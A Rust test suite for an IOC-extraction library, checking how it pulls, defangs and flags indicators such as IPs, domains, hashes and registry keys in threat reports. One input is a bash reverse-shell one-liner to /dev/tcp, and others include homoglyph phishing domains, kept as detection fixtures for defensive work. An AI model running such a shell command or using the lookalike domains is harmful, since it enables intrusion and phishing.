//! Hand-written cases: every false-positive class from issue 4, defanging, flags, API shape.

use mitremap_ioc::{Ioc, IocFlags, IocKind, IocSummary, defang, extract, refang, summarize};

fn of(text: &str, kind: IocKind) -> Vec<String> {
    extract(text)
        .into_iter()
        .filter(|i| i.kind == kind)
        .map(|i| i.value)
        .collect()
}

fn kinds(text: &str) -> Vec<(IocKind, String)> {
    extract(text)
        .into_iter()
        .map(|i| (i.kind, i.value))
        .collect()
}

fn check_ranges(text: &str) {
    for i in extract(text) {
        assert_eq!(&text[i.range.clone()], i.raw, "{i:?}");
    }
}

// ----- file names are not domains -----------------------------------------------------------

#[test]
fn file_names_with_tld_like_extensions_are_files() {
    for f in [
        "rundll32.exe",
        "payload.zip",
        "script.py",
        "install.sh",
        "Calculator.app",
        "libfoo.so",
        "update.cab",
        "clip.mov",
        "notes.one",
        "README.md",
        "tool.pl",
        "main.rs",
    ] {
        let text = format!("The actor dropped {f} on the host.");
        assert!(
            of(&text, IocKind::Domain).is_empty(),
            "{f} reported as a domain: {:?}",
            kinds(&text)
        );
        assert_eq!(of(&text, IocKind::FileName), vec![f.to_string()], "{f}");
    }
}

#[test]
fn defanged_ambiguous_tld_is_a_domain() {
    assert_eq!(
        of("C2 at payload[.]zip today", IocKind::Domain),
        vec!["payload.zip"]
    );
    assert!(of("C2 at payload[.]zip today", IocKind::FileName).is_empty());
    // and in a URL host it is a domain too
    assert_eq!(
        of("get http://evil.zip/a", IocKind::Domain),
        vec!["evil.zip"]
    );
}

#[test]
fn product_names_are_not_files() {
    assert!(of("built with Node.js and Vue.js", IocKind::FileName).is_empty());
}

#[test]
fn glue_words_are_not_files_or_domains() {
    let t = "such as.mp3,.accdb, and.pub files; use of.hta files; as well as.txt";
    assert!(of(t, IocKind::FileName).is_empty(), "{:?}", kinds(t));
    assert!(of(t, IocKind::Domain).is_empty(), "{:?}", kinds(t));
}

// ----- versions are not IPs -----------------------------------------------------------------

#[test]
fn version_numbers_are_not_ips() {
    for t in [
        "Update to version 1.2.3.4 now",
        "Windows 10.0.19041 build",
        "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64) WinHttp/1.6.3.8",
        "v1.2.3.4 released",
        "ver 2.0.0.1",
        "section 1.2.3.4 of the report",
        "release 10.1.2.3",
        "1.2.3.4.5 is a long version",
        "mon.sys version 3.0.0.4",
    ] {
        assert!(of(t, IocKind::Ipv4).is_empty(), "{t:?} -> {:?}", kinds(t));
    }
}

#[test]
fn real_ips_still_found() {
    assert_eq!(
        of("C2 at 185.117.72.190.", IocKind::Ipv4),
        vec!["185.117.72.190"]
    );
    assert_eq!(
        of("https://x.com/ip-address/90.156.201.27/info", IocKind::Ipv4),
        vec!["90.156.201.27"]
    );
    assert_eq!(
        of("bash -i >& /dev/tcp/10.0.0.1/8080", IocKind::Ipv4),
        vec!["10.0.0.1"]
    );
    assert_eq!(
        of("net 10.1.0.0/16 used", IocKind::Ipv4Cidr),
        vec!["10.1.0.0/16"]
    );
    assert_eq!(of("1.1.1.2:80", IocKind::Ipv4), vec!["1.1.1.2"]);
    assert!(of("900.1.4.1", IocKind::Ipv4).is_empty());
}

// ----- hashes inside longer hex runs --------------------------------------------------------

#[test]
fn hashes_inside_longer_hex_are_not_hashes() {
    let md5 = "d41d8cd98f00b204e9800998ecf8427e";
    assert_eq!(of(&format!("hash {md5}."), IocKind::Md5), vec![md5]);
    assert!(of(&format!("hex {md5}0"), IocKind::Md5).is_empty());
    assert!(of(&format!("{md5}{md5}ab"), IocKind::Md5).is_empty());
    assert!(of(&format!("{md5}{md5}ab"), IocKind::Sha256).is_empty());
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    assert_eq!(of(sha256, IocKind::Sha256), vec![sha256]);
    assert!(of(sha256, IocKind::Md5).is_empty());
    // 32 decimal digits is a number, not an MD5
    assert!(of("12345678901234567890123456789012", IocKind::Md5).is_empty());
}

// ----- URL boundaries -----------------------------------------------------------------------

#[test]
fn trailing_punctuation_is_not_part_of_urls() {
    for (t, want) in [
        ("See https://evil.com/a.php.", "https://evil.com/a.php"),
        ("(https://evil.com/a)", "https://evil.com/a"),
        ("\"https://evil.com/a\",", "https://evil.com/a"),
        ("'https://evil.com/a';", "https://evil.com/a"),
        ("[link](https://evil.com/a?b=1)!", "https://evil.com/a?b=1"),
        ("<https://evil.com/x>", "https://evil.com/x"),
        (
            "https://en.wikipedia.org/wiki/Foo_(bar) end",
            "https://en.wikipedia.org/wiki/Foo_(bar)",
        ),
        ("visit https://evil.com/a:", "https://evil.com/a"),
    ] {
        assert_eq!(of(t, IocKind::Url), vec![want.to_string()], "{t:?}");
        check_ranges(t);
    }
}

#[test]
fn any_scheme() {
    assert_eq!(
        of(
            "smb://10.0.0.5/share and ldap://dc.corp.local/x",
            IocKind::Url
        )
        .len(),
        2
    );
}

// ----- prose joined by dots -----------------------------------------------------------------

#[test]
fn prose_and_code_joined_by_dots_are_not_domains() {
    for t in [
        "used by threat actors.Cisco reported",
        "createobject(\"ADODB.Stream\")",
        "built on the .NET framework",
        "an ASP.NET web shell",
        "System.Net.WebClient downloads",
        "set o = createobject(\"wscript.shell\")",
        "m = re.search(\"x\", fd)",
        "data = r.group(0)",
        "the malware.in 2019",
        "com.apple.dock settings",
        "saved to AppData\\Fasta.ski via BITS",
    ] {
        assert!(of(t, IocKind::Domain).is_empty(), "{t:?} -> {:?}", kinds(t));
    }
}

#[test]
fn real_domains_found() {
    assert_eq!(
        of(
            "beacons to update.deepsoftupdate.com daily",
            IocKind::Domain
        ),
        vec!["update.deepsoftupdate.com"]
    );
    assert_eq!(
        of("Google.com at the start", IocKind::Domain),
        vec!["google.com"]
    );
    assert_eq!(
        of("the onion igvmwp3544wpnd6u.onion", IocKind::Domain),
        vec!["igvmwp3544wpnd6u.onion"]
    );
    assert_eq!(of("telegram t.me/foo", IocKind::Domain), vec!["t.me"]);
    assert!(of("example.nottld", IocKind::Domain).is_empty());
}

// ----- defanging ------------------------------------------------------------------------------

#[test]
fn defanged_forms() {
    let cases: &[(&str, IocKind, &str)] = &[
        ("hxxp://evil[.]com/a", IocKind::Url, "http://evil.com/a"),
        ("hXXps://evil(.)com/a", IocKind::Url, "https://evil.com/a"),
        ("evil{.}com", IocKind::Domain, "evil.com"),
        ("evil[dot]com", IocKind::Domain, "evil.com"),
        ("evil(dot)com", IocKind::Domain, "evil.com"),
        ("http[:]//evil.com/x", IocKind::Url, "http://evil.com/x"),
        ("hxxps[://]evil[.]com/x", IocKind::Url, "https://evil.com/x"),
        ("bob[@]evil.com", IocKind::Email, "bob@evil.com"),
        ("bob[at]evil.com", IocKind::Email, "bob@evil.com"),
        ("bob AT evil.com", IocKind::Email, "bob@evil.com"),
        ("john at evil dot com", IocKind::Email, "john@evil.com"),
        ("evil dot com", IocKind::Domain, "evil.com"),
        ("evil\\.com", IocKind::Domain, "evil.com"),
        ("evil . com", IocKind::Domain, "evil.com"),
        ("1[.]2[.]3[.]4", IocKind::Ipv4, "1.2.3.4"),
        (
            "evil[.]com/path/x.php",
            IocKind::Url,
            "http://evil.com/path/x.php",
        ),
    ];
    for (t, k, want) in cases {
        let hits: Vec<Ioc> = extract(t).into_iter().filter(|i| i.kind == *k).collect();
        assert_eq!(hits.len(), 1, "{t:?} -> {:?}", kinds(t));
        assert_eq!(hits[0].value, *want, "{t:?}");
        assert!(hits[0].defanged, "{t:?}");
        assert_eq!(&t[hits[0].range.clone()], hits[0].raw);
    }
}

#[test]
fn refanging_does_not_invent_iocs_from_prose() {
    for t in [
        "Let's meet at noon at the office.",
        "The red dot in the corner.",
        "The dot com bubble burst.",
        "Look (at) this.",
        "He arrived at example of the attack.",
        "found at google.com",
        "beacons to C2 at evil[.]com",
    ] {
        assert!(of(t, IocKind::Email).is_empty(), "{t:?} -> {:?}", kinds(t));
        if !(t.contains(".com") || t.contains("[.]")) {
            assert!(of(t, IocKind::Domain).is_empty(), "{t:?} -> {:?}", kinds(t));
        }
    }
    assert_eq!(refang("Let's meet at noon."), "Let's meet at noon.");
    assert_eq!(refang("The dot com bubble"), "The dot com bubble");
}

#[test]
fn refang_and_defang_round_trip() {
    assert_eq!(refang("hxxps://evil[.]com"), "https://evil.com");
    assert_eq!(refang(&refang("hxxps://evil[.]com")), "https://evil.com");
    assert_eq!(
        defang("https://evil.com/a.php", IocKind::Url),
        "hxxps://evil[.]com/a.php"
    );
    assert_eq!(defang("evil.com", IocKind::Domain), "evil[.]com");
    assert_eq!(defang("bob@evil.com", IocKind::Email), "bob[@]evil[.]com");
    assert_eq!(defang("1.2.3.4", IocKind::Ipv4), "1[.]2[.]3[.]4");
    for (v, k) in [
        ("https://evil.com/a.php", IocKind::Url),
        ("evil.com", IocKind::Domain),
        ("bob@evil.com", IocKind::Email),
        ("1.2.3.4", IocKind::Ipv4),
    ] {
        assert_eq!(refang(&defang(v, k)), v);
    }
}

// ----- the other kinds ------------------------------------------------------------------------

#[test]
fn all_other_kinds() {
    let t = "CVE-2021-44228 T1059.001 TA0002 G0016 S0154 M1036 C0015 DS0009 AS13335 ASN 15169 \
             00:1A:2B:3C:4D:5E 00-b0-d0-63-c2-26 2001:db8::1 fe80::1 ::ffff:192.0.2.128 \
             3Cwgr2g7vsi1bXDUkpEnVoRLA9w4FZfC69 bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq \
             96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx \
             HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run C:\\Windows\\System32\\cmd.exe \
             /etc/passwd ./run.sh rule APT_Foo_Bar : tag1 tag2 {";
    let got = kinds(t);
    let has = |k: IocKind, v: &str| got.iter().any(|(gk, gv)| *gk == k && gv == v);
    assert!(has(IocKind::Cve, "CVE-2021-44228"), "{got:?}");
    for id in [
        "T1059.001",
        "TA0002",
        "G0016",
        "S0154",
        "M1036",
        "C0015",
        "DS0009",
    ] {
        assert!(has(IocKind::AttackId, id), "{id} {got:?}");
    }
    assert!(
        has(IocKind::Asn, "AS13335") && has(IocKind::Asn, "AS15169"),
        "{got:?}"
    );
    assert!(
        has(IocKind::Mac, "00:1a:2b:3c:4d:5e") && has(IocKind::Mac, "00:b0:d0:63:c2:26"),
        "{got:?}"
    );
    assert!(
        has(IocKind::Ipv6, "2001:db8::1")
            && has(IocKind::Ipv6, "fe80::1")
            && has(IocKind::Ipv6, "::ffff:192.0.2.128"),
        "{got:?}"
    );
    assert!(
        !got.iter()
            .any(|(k, v)| *k == IocKind::Ipv4 && v == "192.0.2.128"),
        "IPv4 inside IPv6: {got:?}"
    );
    assert!(
        has(IocKind::BtcAddress, "3Cwgr2g7vsi1bXDUkpEnVoRLA9w4FZfC69"),
        "{got:?}"
    );
    assert!(
        has(
            IocKind::BtcAddress,
            "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
        ),
        "{got:?}"
    );
    assert!(got.iter().any(|(k, _)| *k == IocKind::Ssdeep), "{got:?}");
    assert!(
        has(
            IocKind::RegistryKey,
            "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ),
        "{got:?}"
    );
    assert!(
        has(IocKind::WindowsPath, "C:\\Windows\\System32\\cmd.exe"),
        "{got:?}"
    );
    assert!(has(IocKind::FileName, "cmd.exe"), "{got:?}");
    assert!(
        has(IocKind::UnixPath, "/etc/passwd") && has(IocKind::UnixPath, "./run.sh"),
        "{got:?}"
    );
    assert!(has(IocKind::YaraRule, "APT_Foo_Bar"), "{got:?}");
    check_ranges(t);
}

#[test]
fn registry_hive_spellings() {
    for h in [
        "HKLM",
        "HKEY_LOCAL_MACHINE",
        "HKCU",
        "HKEY_CURRENT_USER",
        "HKCR",
        "HKEY_CLASSES_ROOT",
        "HKU",
        "HKEY_USERS",
        "HKCC",
        "HKEY_CURRENT_CONFIG",
        "hklm",
        "HKLM:",
    ] {
        let t = format!("set {h}\\Software\\Foo value");
        assert_eq!(
            of(&t, IocKind::RegistryKey).len(),
            1,
            "{t:?} {:?}",
            kinds(&t)
        );
    }
    assert!(of("HKP\\SYSTEM", IocKind::RegistryKey).is_empty());
    assert_eq!(
        of(
            "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon key",
            IocKind::RegistryKey
        ),
        vec!["HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"]
    );
}

#[test]
fn windows_paths_with_spaces() {
    assert_eq!(
        of(
            "ran C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe today",
            IocKind::WindowsPath
        ),
        vec!["C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"]
    );
    assert_eq!(
        of(
            "ran C:\\Windows\\a.exe HKLM\\Software\\X",
            IocKind::WindowsPath
        ),
        vec!["C:\\Windows\\a.exe"]
    );
}

#[test]
fn invalid_btc_and_asn_rejected() {
    assert!(of("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", IocKind::BtcAddress).is_empty());
    assert!(of("JBoss AS 3/4/5/6", IocKind::Asn).is_empty());
    assert!(of("ASN4294967295", IocKind::Asn).is_empty());
    assert!(of("as 15169 parts", IocKind::Asn).is_empty());
}

#[test]
fn cve_and_attack_bounds() {
    assert!(of("CVE-19999-0000 CVE-2022-000012", IocKind::Cve).is_empty());
    assert!(of("P1174 T019109", IocKind::AttackId).is_empty());
    assert_eq!(of("cve-2021-1234", IocKind::Cve), vec!["CVE-2021-1234"]);
}

#[test]
fn yara_needs_a_rule_header() {
    assert!(of("as a rule, this is { not yara", IocKind::YaraRule).is_empty());
    assert_eq!(of("rule Foo_Bar {", IocKind::YaraRule), vec!["Foo_Bar"]);
    assert_eq!(
        of("private rule Foo : tag {", IocKind::YaraRule),
        vec!["Foo"]
    );
}

// ----- flags, summaries, serde ----------------------------------------------------------------

#[test]
fn noise_is_flagged_not_dropped() {
    let hits = extract(
        "10.0.0.1 192.168.1.1 127.0.0.1 8.8.8.8 microsoft.com evil-c2.com user@gmail.com fd00::1",
    );
    let flag = |v: &str| {
        hits.iter()
            .find(|i| i.value == v)
            .map(|i| i.flags)
            .unwrap_or_else(|| panic!("{v} missing: {hits:?}"))
    };
    assert!(flag("10.0.0.1").private && flag("192.168.1.1").private && flag("127.0.0.1").private);
    assert!(!flag("8.8.8.8").is_noise());
    assert!(flag("microsoft.com").benign && flag("microsoft.com").is_noise());
    assert!(!flag("evil-c2.com").is_noise());
    assert!(flag("user@gmail.com").benign);
    assert!(flag("fd00::1").private);
}

#[test]
fn summaries_dedup_with_counts() {
    let t = "evil[.]com then evil.com and EVIL.com; 1.2.3.4";
    let s: Vec<IocSummary> = summarize(&extract(t));
    let d = s.iter().find(|x| x.kind == IocKind::Domain).unwrap();
    assert_eq!(d.value, "evil.com");
    assert_eq!(d.count, 3);
    assert_eq!(d.first, 0);
    assert_eq!(d.raws, vec!["evil[.]com", "evil.com", "EVIL.com"]);
    assert!(
        s.windows(2)
            .all(|w| (w[0].kind, w[0].first) <= (w[1].kind, w[1].first))
    );
}

#[test]
fn extract_is_sorted_by_start() {
    let v = extract("x http://a.com/1.2.3.4 b.com 5.6.7.8 c:\\x\\y.exe");
    assert!(v.windows(2).all(|w| w[0].range.start <= w[1].range.start));
}

#[test]
fn serde_shape() {
    let hits = extract("hxxp://evil[.]com/x");
    let j = serde_json::to_value(&hits[0]).unwrap();
    assert_eq!(j["kind"], "url");
    assert_eq!(j["range"]["start"], 0);
    assert_eq!(j["flags"]["private"], false);
    let back: Ioc = serde_json::from_value(j).unwrap();
    assert_eq!(back, hits[0]);
    for k in IocKind::ALL {
        let s = serde_json::to_string(k).unwrap();
        assert_eq!(s, format!("\"{}\"", k.as_str()));
        assert_eq!(IocKind::from_name(k.as_str()), Some(*k));
        assert!(!k.label().is_empty());
    }
    assert_eq!(IocKind::ALL.len(), 31);
    let f: IocFlags = serde_json::from_str(r#"{"private":true,"benign":false}"#).unwrap();
    assert!(f.is_noise());
    let s = summarize(&hits);
    let _: Vec<IocSummary> = serde_json::from_str(&serde_json::to_string(&s).unwrap()).unwrap();
}

#[test]
fn unicode_input_is_safe() {
    for t in [
        "访问evil.com下载",
        "вирус[.]рф and evil[.]com",
        "é1.2.3.4é",
        "😀hxxp://x[.]com/😀",
        "\u{200b}evil.com\u{200b}",
    ] {
        check_ranges(t);
    }
    assert_eq!(of("访问evil.com下载", IocKind::Domain), vec!["evil.com"]);
}

// ---------------------------------------------------------------------------------------------
// second pass (issue 15): library behaviour not visible in the corpus scores

#[test]
fn registry_keys_dedupe_on_the_canonical_value_and_keep_every_spelling() {
    let t = r"Keys: HKLM\Software\Microsoft\Windows\CurrentVersion\Run, HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run, Computer\HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run and <HKLM>\SOFTWARE\Microsoft\Windows\CurrentVersion\Run.";
    let hits = extract(t);
    let s: Vec<_> = summarize(&hits)
        .into_iter()
        .filter(|s| s.kind == IocKind::RegistryKey)
        .collect();
    assert_eq!(s.len(), 1, "{s:#?}");
    assert_eq!(s[0].count, 4);
    assert_eq!(s[0].raws.len(), 4);
    assert!(s[0].value.starts_with(r"HKEY_LOCAL_MACHINE\"));
}

#[test]
fn derived_domains_are_flagged_and_plain_ones_win_in_summaries() {
    use mitremap_ioc::Derived;
    let t = "From a@drop.biz and b@drop.biz, see https://cdn.drop.biz/x; drop.biz itself.";
    let hits = extract(t);
    let from_email = hits
        .iter()
        .filter(|h| h.kind == IocKind::Domain && h.flags.derived == Some(Derived::FromEmail))
        .count();
    assert_eq!(from_email, 2);
    assert!(hits.iter().any(|h| h.kind == IocKind::Domain
        && h.value == "cdn.drop.biz"
        && h.flags.derived == Some(Derived::FromUrl)));
    let s = summarize(&hits);
    let drop = s
        .iter()
        .find(|s| s.kind == IocKind::Domain && s.value == "drop.biz")
        .unwrap();
    // two from e-mail addresses + one written on its own: one row, not derived
    assert_eq!(drop.count, 3);
    assert_eq!(drop.flags.derived, None);
    let cdn = s.iter().find(|s| s.value == "cdn.drop.biz").unwrap();
    assert_eq!(cdn.flags.derived, Some(Derived::FromUrl));
    // e-mails are not double-counted: still one row per address
    assert_eq!(s.iter().filter(|s| s.kind == IocKind::Email).count(), 2);
    // the flag serialises only when set
    let j = serde_json::to_value(drop.flags).unwrap();
    assert!(j.get("derived").is_none());
    let j = serde_json::to_value(cdn.flags).unwrap();
    assert_eq!(j["derived"], "from_url");
}

#[test]
fn embedded_urls_link_to_their_outer_url() {
    use mitremap_ioc::{Derived, outer_url};
    let t = "Click https://l.facebook.com/l.php?u=https%3A%2F%2Fbit-promo.shop%2Fgift&h=AT0x now";
    let hits = extract(t);
    let inner = hits
        .iter()
        .find(|h| h.flags.derived == Some(Derived::EmbeddedUrl))
        .unwrap();
    assert_eq!(inner.value, "https://bit-promo.shop/gift");
    assert_eq!(inner.raw, "https%3A%2F%2Fbit-promo.shop%2Fgift");
    let outer = outer_url(&hits, inner).unwrap();
    assert!(outer.value.starts_with("https://l.facebook.com/l.php?u="));
    let host = hits.iter().find(|h| h.value == "bit-promo.shop").unwrap();
    assert_eq!(outer_url(&hits, host).unwrap().value, inner.value);
}

#[test]
fn tlp_markings_are_a_document_property_not_iocs() {
    use mitremap_ioc::{Tlp, document_tlp, tlp_markings};
    let t = "TLP:GREEN summary. Annex: TLP:AMBER+STRICT. Old header TLP: WHITE.";
    assert!(extract(t).is_empty());
    let m = tlp_markings(t);
    assert_eq!(
        m.iter().map(|m| m.tlp).collect::<Vec<_>>(),
        vec![Tlp::Green, Tlp::AmberStrict, Tlp::Clear]
    );
    for x in &m {
        assert_eq!(&t[x.range.clone()], x.raw);
    }
    assert_eq!(document_tlp(t), Some(Tlp::AmberStrict));
    assert_eq!(Tlp::AmberStrict.as_str(), "TLP:AMBER+STRICT");
    assert_eq!(document_tlp("no marking; the TLP framework; amber"), None);
}

#[test]
fn checksummed_kinds_reject_typos() {
    // one changed character: checksum fails, nothing reported
    let xmr_bad = "47GABRi4EvLCczu5FJxbGWEKg55owrvA3Xg5T1dXCajwG5mPf3RJV9VDEUG7ZHiXreNFpkWtV3h7w6zUs8CmtiQRVSaDBWj";
    assert!(extract(xmr_bad).is_empty());
    let onion_bad = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczae.onion";
    assert!(of(onion_bad, IocKind::Domain).is_empty());
    let onion_ok = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion";
    assert_eq!(of(onion_ok, IocKind::Domain), vec![onion_ok]);
}

/// Issue 13 item 7: values that are not indicators, and real ones cut by invisible or lookalike
/// characters, are not reported (and so never exported as STIX indicators).
#[test]
fn versions_amounts_detection_names_and_cut_names_are_not_indicators() {
    let t = "The hosts ran ESXi 7.0.3.2, Firefox 115.0.2.1 and OpenSSH 8.2.1.3. The ransom was \
             1.250.000.00 EUR. Detected as Trojan.Win32.Agent.abc and Backdoor.MSIL.Bladabindi.b. \
             Visit micro\u{200B}soft-update.com, soft\u{00AD}ware-cdn.net and \
             \u{0440}\u{0430}\u{0443}\u{0440}\u{0430}l.com now. C2 185.220.101.34 and evil.com.";
    assert_eq!(of(t, IocKind::Ipv4), vec!["185.220.101.34"]);
    assert_eq!(
        of(t, IocKind::Domain),
        vec![
            "microsoft-update.com",
            "software-cdn.net",
            "xn--l-7sba6dbr.com",
            "evil.com"
        ]
    );
    // the raw spelling keeps the invisible character (offsets into the input), the value not
    let hit = extract(t)
        .into_iter()
        .find(|i| i.value == "microsoft-update.com")
        .unwrap();
    assert_eq!(hit.raw, "micro\u{200B}soft-update.com");
    assert_eq!(&t[hit.range.clone()], hit.raw);
    assert!(
        !hit.defanged,
        "an invisible character is not a defang notation"
    );
    // CJK prose has no spaces: a domain inside it is still found
    assert_eq!(of("访问evil.com下载", IocKind::Domain), vec!["evil.com"]);
}

/// Names written with letters of another script that look Latin (issue 13, item 7) are read
/// whole, as their DNS (punycode) form, and flagged as lookalikes; never cut into the ASCII
/// tail, someone else's domain.
#[test]
fn homoglyph_domains_are_read_whole_and_flagged() {
    let t = "Phish from \u{0440}\u{0430}\u{0443}\u{0440}\u{0430}l.com, p\u{0430}ypal.com and \
             micr\u{043E}soft.com; www.p\u{0430}ypal.com/login; the real one is bücher.de and \
             \u{043F}\u{0440}\u{0438}\u{043C}\u{0435}\u{0440}.com.";
    let hits = extract(t);
    let domains: Vec<(&str, &str, bool)> = hits
        .iter()
        .filter(|h| h.kind == IocKind::Domain)
        .map(|h| (h.value.as_str(), h.raw.as_str(), h.flags.lookalike))
        .collect();
    assert_eq!(
        domains,
        vec![
            (
                "xn--l-7sba6dbr.com",
                "\u{0440}\u{0430}\u{0443}\u{0440}\u{0430}l.com",
                true
            ),
            ("xn--pypal-4ve.com", "p\u{0430}ypal.com", true),
            ("xn--micrsoft-qbh.com", "micr\u{043E}soft.com", true),
            ("www.xn--pypal-4ve.com", "www.p\u{0430}ypal.com", true),
            // Latin with diacritics or a whole word in Cyrillic: an IDN, not a homoglyph
            ("xn--bcher-kva.de", "bücher.de", false),
            (
                "xn--e1afmkfd.com",
                "\u{043F}\u{0440}\u{0438}\u{043C}\u{0435}\u{0440}.com",
                false
            ),
        ]
    );
    for h in &hits {
        assert_eq!(&t[h.range.clone()], h.raw);
    }
    // the ASCII tails are not reported on their own
    assert!(
        !hits
            .iter()
            .any(|h| ["l.com", "ypal.com", "soft.com", "cher.de"].contains(&h.value.as_str()))
    );
    let summary = summarize(&hits);
    assert!(
        summary
            .iter()
            .any(|s| s.value == "xn--pypal-4ve.com" && s.flags.lookalike && s.count == 1)
    );
}
